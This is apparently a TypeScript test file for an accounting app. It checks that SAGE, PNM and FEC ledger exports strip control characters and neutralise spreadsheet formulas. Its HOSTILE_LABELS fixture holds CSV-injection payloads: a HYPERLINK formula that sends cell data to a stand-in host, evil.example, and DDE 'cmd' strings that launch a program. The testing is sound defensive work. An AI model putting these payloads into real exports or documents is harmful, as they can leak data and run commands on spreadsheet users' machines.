import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDatabaseTargets } from '../support/databases';
import { TEST_TODAY } from '../support/test-app';
import { bearer, closeRestContext, openRestContext, type RestContext } from '../rest/rest-context';
import { decodeLatin9, insertFlux, PERIOD } from './accounting-fixtures';

/**
 * R-LEDG-05: labels already stored with formulas or line breaks (written before
 * any write check, straight in SQL here) come out of the SAGE and FEC files clean.
 */
const HOSTILE_LABELS = [
  '=HYPERLINK("http://evil.example/?d="&A1;"Facture")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  'Licence\r\n=1+1;ligne cassée',
  'Retour\rchariot\nsaut\u2028séparateur\u0085NEL\u000bVT\u001bESC',
];
// eslint-disable-next-line no-control-regex -- the point is to find control characters
const CONTROL = /[\u0000-\u0008\u000a-\u001f\u007f-\u009f\u2028\u2029]/;
const FORMULA_START = /^[=+\-@\t\r]/;

/** The ';' cells of a CSV line, RFC-quoted fields unquoted (a quoted ';' stays in its cell). */
function csvCells(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const char = line[i];
    if (quoted && char === '"' && line[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (char === '"') quoted = !quoted;
    else if (char === ';' && !quoted) {
      cells.push(cell);
      cell = '';
    } else cell += char;
  }
  return [...cells, cell];
}

const records = (payload: Buffer) => {
  const lines = decodeLatin9(payload).split('\r\n');
  expect(lines.pop()).toBe('');
  return lines;
};

describe.each(testDatabaseTargets())('hostile labels in SAGE and FEC files on $name (R-LEDG-05)', (target) => {
  let context: RestContext;
  const query = (extra = '') => `from=${PERIOD.from}&to=${PERIOD.to}${extra}`;
  const get = (token: string, url: string) => context.app.inject({ method: 'GET', url, headers: bearer(token) });

  const hostileFlux = (date: string) =>
    HOSTILE_LABELS.map((label, index) => ({
      structureId: context.clubId,
      label,
      amount: `${index + 1}0.00`,
      isDebit: index % 2 === 0,
      category: 1 + (index % 2),
      date,
    }));

  beforeAll(async () => {
    context = await openRestContext(target, { ledgerClock: () => TEST_TODAY });
    await insertFlux(context.database, hostileFlux('2030-01-07'));
    // The FEC covers a fiscal year: the same labels inside the current one (1 September 2026 - 31 August 2027).
    await insertFlux(context.database, hostileFlux('2026-10-07'), 100);
    // Settings and names reach the files too: an analytic section and a structure name.
    await context.database.query(
      `UPDATE "CPT_MappingFlux" SET "CodeSection" = '=2+3' WHERE "ID_Structure" = $1 AND "ID_CategoryFlux" = 1`,
      [context.clubId],
    );
    await context.database.query(`UPDATE "STR_Structure" SET "NomStructure" = $2 WHERE id = $1`, [
      context.clubId,
      'Club\r\n=1+1\tcassé',
    ]);
  });
  afterAll(() => closeRestContext(context));

  it('SAGE CSV: one record a line, 10 cells, no cell starting with a formula character', async () => {
    const response = await get(context.tokens.club, `/api/exports/sage?${query('&format=csv')}`);
    expect(response.statusCode, response.body).toBe(200);
    const [header, ...lines] = records(response.rawPayload);
    expect(header?.split(';')).toHaveLength(10);
    expect(lines).toHaveLength(HOSTILE_LABELS.length * 2);
    for (const line of lines) {
      expect(line).not.toMatch(CONTROL);
      const cells = csvCells(line);
      expect(cells, line).toHaveLength(10);
      for (const cell of cells) expect(cell, line).not.toMatch(FORMULA_START);
    }
    expect(lines.map((line) => csvCells(line)[5])).toContain("'=1+1");
    expect(lines.map((line) => csvCells(line)[8])).toContain("'=2+3");
  });

  it('PNM: one record a line, 138 characters, no control character', async () => {
    const response = await get(context.tokens.club, `/api/exports/sage?${query()}`);
    expect(response.statusCode, response.body).toBe(200);
    const lines = records(response.rawPayload);
    expect(lines).toHaveLength(HOSTILE_LABELS.length * 2);
    for (const line of lines) {
      expect(line).toHaveLength(138);
      expect(line).not.toMatch(CONTROL);
    }
    expect(lines.some((line) => line.includes('Licence =1+1;ligne cassée'))).toBe(true);
  });

  const currentYearFec = async (token: string) => {
    const years = await get(token, '/api/parametrages-comptables/exercices');
    const current = (years.json() as { exercices: Array<{ id: number; debut: string }> }).exercices.find(
      (y) => y.debut === '2026-09-01',
    );
    return get(token, `/api/exports/fec?exercice=${current?.id}`);
  };

  it('FEC (club and head office): one record a line, 18 fields, no control character but the tab', async () => {
    for (const token of [context.tokens.club, context.tokens.siege]) {
      const response = await currentYearFec(token);
      expect(response.statusCode, response.body).toBe(200);
      const [header, ...lines] = records(response.rawPayload);
      expect(header?.split('\t')).toHaveLength(18);
      expect(lines.length).toBeGreaterThanOrEqual(HOSTILE_LABELS.length * 2);
      for (const line of lines) {
        expect(line.split('\t'), line).toHaveLength(18);
        expect(line).not.toMatch(CONTROL);
      }
      const labels = lines.map((line) => line.split('\t')[10]);
      expect(labels).toContain('Retour chariot saut séparateur NEL VT ESC');
    }
    const headOffice = records((await currentYearFec(context.tokens.siege)).rawPayload);
    expect(headOffice.map((line) => line.split('\t')[7])).toContain('Club =1+1 cassé');
  });
});
